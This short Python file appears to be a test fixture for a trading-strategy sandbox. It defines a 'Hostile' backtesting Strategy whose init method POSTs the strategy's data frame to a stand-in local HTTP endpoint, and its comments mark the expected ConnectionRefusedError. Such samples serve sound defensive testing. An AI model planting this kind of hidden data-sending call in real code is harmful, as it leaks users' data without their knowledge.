# technique: send what was found to an address, in the name that is looked up
# expect: import
# ends: ConnectionRefusedError
from backtesting import Strategy
from http.client import HTTPConnection


class Hostile(Strategy):
    def init(self):
        HTTPConnection("127.0.0.1", 47474, timeout=2).request("POST", "/", body=str(self.data.df))

    def next(self):
        pass
